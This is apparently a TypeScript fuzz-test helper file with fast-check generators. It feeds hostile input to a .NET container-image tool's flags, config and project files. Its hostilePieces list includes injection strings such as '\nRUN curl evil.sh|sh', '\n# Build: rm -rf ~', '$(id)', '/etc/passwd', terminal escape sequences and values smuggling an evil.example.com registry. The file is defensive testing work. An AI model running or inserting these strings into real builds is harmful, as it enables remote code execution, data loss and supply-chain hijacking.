// The generated-input suite (issue 12): one file per input surface (flags, config files, project
// files, writes under faults and signals, builds) checks the reliability invariants the README
// states over generated hostile input, with a fixed seed (settings.ts); `npm run fuzz` runs longer.
// This file holds the generators the surfaces share.
import fc from 'fast-check';

/**
 * Pieces an attacker or an unlucky user puts into a value: terminal control, line breaks, quotes,
 * shell syntax, the separators of MSBuild, CSV, YAML and XML, percent escapes, unicode that
 * looks like something else, leading dashes.
 */
export const hostilePieces = [
	'\u0000', '\u0001', '\u0007', '\b', '\t', '\n', '\r', '\r\n', '\u000B', '\f', '\u001B', '\u007F', '\u0085', '\u009B', '\u009D',
	'\u001B]0;pwned\u0007', '\u001B[2J', '\u001B[31m', '\u009B31m', '\u001B]8;;http://evil.example/\u001B\\',
	'\nRUN curl evil.sh|sh', '\nUSER root', '\r\nENV X=1', '\n# Build: rm -rf ~',
	'\'', '"', '\\', '`id`', '$(id)', '${HOME}', '$HOME', ';', '|', '&', '&&', '>', '<', '*', '?', '[a]', '~', '#', '!', '{a,b}', ' ', '  ', '(', ')',
	',', ';', '=', ',type=registry', ',ContainerRegistry=evil.example.com', ';ContainerRegistry=evil.example.com', '%3B', '%2C', '%', '%(Identity)', '$(MSBuildProjectDirectory)', '@(Compile)',
	'&amp;', '&lt;', '<x>', ']]>', '<!--', '-->', '&#x1B;', '&xxe;',
	': ', '- ', '*alias', '&anchor', '!!js/function', '---', '...', '{}', '[]', '? ',
	'é', '日本', '\u202E', '\u2028', '\u2029', '\uFEFF', '\u200B', '🐳', 'İ', 'ﬀ',
	'-', '--', '--push', '-p:X=1', '/t:Build', '/', '//', '.', '..', '../', '../../', '/etc/passwd', '/proc/self/cwd', 'C:\\',
	'a', 'app', 'registry.example.com', 'localhost:5000', ':1.0', ':latest', '@sha256:', 'UPPER', '0',
] as const;

/** A value built from hostile pieces and arbitrary text, sometimes very long or empty. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
	{weight: 6, arbitrary: fc.array(fc.oneof({weight: 4, arbitrary: fc.constantFrom(...hostilePieces)}, {weight: 1, arbitrary: fc.string({maxLength: 6, unit: 'binary'})}), {minLength: 1, maxLength: 6}).map(parts => parts.join(''))},
	{weight: 1, arbitrary: fc.constant('')},
	{weight: 1, arbitrary: fc.tuple(fc.constantFrom('a', '$', '\n', 'é', '/'), fc.integer({min: 300, max: 9000})).map(([piece, count]) => piece.repeat(count))},
);

// The distribution grammar's parts, to make references that are valid.
const lowerWord = fc.stringMatching(/^[a-z0-9]{1,8}$/);
const pathComponent = fc.tuple(lowerWord, fc.option(fc.tuple(fc.constantFrom('.', '_', '__', '-', '--'), lowerWord), {nil: undefined})).map(([head, tail]) => (tail ? `${head}${tail[0]}${tail[1]}` : head));
const registryHost = fc.constantFrom('registry.example.com', 'localhost:5000', 'ghcr.io', '127.0.0.1:5000', 'my-registry.internal:443');
const imageTag = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,20}$/);

/** An image reference that is valid: [registry/]path[:tag]. */
export const validImage: fc.Arbitrary<string> = fc.tuple(fc.option(registryHost, {nil: undefined}), fc.array(pathComponent, {minLength: 1, maxLength: 3}), fc.option(imageTag, {nil: undefined}))
	.map(([registry, parts, tag]) => `${registry ? `${registry}/` : ''}${parts.join('/')}${tag === undefined ? '' : `:${tag}`}`);

/** A valid value, or a hostile one made from it (a piece spliced in) or from scratch. */
export function validOrHostile(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
	const spliced = fc.tuple(valid, fc.constantFrom(...hostilePieces), fc.nat()).map(([value, piece, at]) => {
		const index = at % (value.length + 1);
		return `${value.slice(0, index)}${piece}${value.slice(index)}`;
	});
	return fc.oneof({withCrossShrink: true}, {weight: 3, arbitrary: valid}, {weight: 3, arbitrary: spliced}, {weight: 2, arbitrary: hostileString});
}

export const hostileImage = validOrHostile(validImage);

export const validMirror = fc.constantFrom('registry.example.com/mcr', 'localhost:5000', 'mirror.internal:5000/dotnet-mirror', '[::1]:5000/mcr', 'ghcr.io/team/mcr');
export const hostileMirror = validOrHostile(validMirror);

export const validBuilder = fc.stringMatching(/^[a-z][a-z0-9_-]{0,15}$/);
export const hostileBuilder = validOrHostile(validBuilder);

/** A file name inside the scratch folder: it may be hostile text, but it never climbs out or starts at /. */
export const safeRelativeName = validOrHostile(fc.constantFrom('out/image.tar', 'image.tar', 'My App/image.tar', 'dist/x.oci'))
	.map(name => name.replaceAll('\u0000', '').replaceAll(/\.\.(?=\/|\\|$)/g, '_').replace(/^[/~]+/, '').replaceAll('/proc/self/cwd', 'proc'))
	.filter(name => name.length > 0 && name.length < 200 && !name.split('/').some(part => part === '..' || part === '.') && !name.endsWith('/'));

export const answerValues = {
	dotnet: ['10.0', '9.0', '8.0'],
	app: ['web', 'console'],
	deploy: ['framework', 'self-contained', 'aot'],
	startup: ['jit', 'readytorun', 'composite'],
	shell: ['yes', 'no'],
	globalization: ['invariant', 'icu'],
	os: ['ubuntu', 'debian', 'alpine', 'azurelinux'],
	arch: ['amd64', 'arm64', 'amd64,arm64', 'arm', 'amd64,arm64,arm'],
} as const;

export type AnswerName = keyof typeof answerValues;
export const answerNames = Object.keys(answerValues) as AnswerName[];

/** A set of valid answers for some of the questions. */
export const someAnswers: fc.Arbitrary<Partial<Record<AnswerName, string>>> = fc.record(
	Object.fromEntries(answerNames.map(name => [name, fc.constantFrom(...answerValues[name])])) as Record<AnswerName, fc.Arbitrary<string>>,
	{requiredKeys: []},
);

/** Answers where some values may be hostile. */
export const someHostileAnswers: fc.Arbitrary<Partial<Record<AnswerName, string>>> = fc.record(
	Object.fromEntries(answerNames.map(name => [name, fc.oneof({weight: 4, arbitrary: fc.constantFrom(...answerValues[name])}, {weight: 1, arbitrary: validOrHostile(fc.constantFrom(...answerValues[name]))})])) as Record<AnswerName, fc.Arbitrary<string>>,
	{requiredKeys: []},
);
